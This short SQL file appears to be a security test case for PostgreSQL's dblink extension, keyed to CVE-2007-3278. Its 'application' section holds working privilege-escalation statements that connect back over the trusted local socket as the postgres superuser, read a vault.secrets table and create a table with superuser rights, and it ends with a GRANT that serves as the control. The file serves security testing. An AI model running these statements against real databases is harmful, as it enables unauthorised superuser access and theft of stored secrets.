-- way: connect back to the server over its trusted socket, as its superuser
-- source: CVE-2007-3278
-- control: EXECUTE on dblink_connect_u
-- section: setup
CREATE EXTENSION dblink SCHEMA ext;
-- section: application
SELECT ext.dblink_connect_u('c', 'user=postgres dbname=' || current_database());
SELECT * FROM ext.dblink('c', 'SELECT note FROM vault.secrets') r(note text);
SELECT ext.dblink_connect('d', 'user=postgres dbname=' || current_database());
SELECT * FROM ext.dblink('d', 'SELECT note FROM vault.secrets') r(note text);
SELECT ext.dblink_connect('e', 'host=127.0.0.1 user=postgres password=x dbname=' || current_database());
SELECT * FROM ext.dblink('user=postgres password=x dbname=' || current_database(), 'SELECT note FROM vault.secrets') r(note text);
SELECT ext.dblink_exec('user=postgres passfile=/dev/null dbname=' || current_database(), 'CREATE TABLE public.climbed ()');
CREATE FUNCTION shop.connect(text, text) RETURNS text LANGUAGE c STRICT AS '$libdir/dblink', 'dblink_connect';
CREATE SERVER loop FOREIGN DATA WRAPPER dblink_fdw OPTIONS (dbname 'postgres');
-- section: control
GRANT EXECUTE ON FUNCTION ext.dblink_connect_u(text, text) TO :"access";
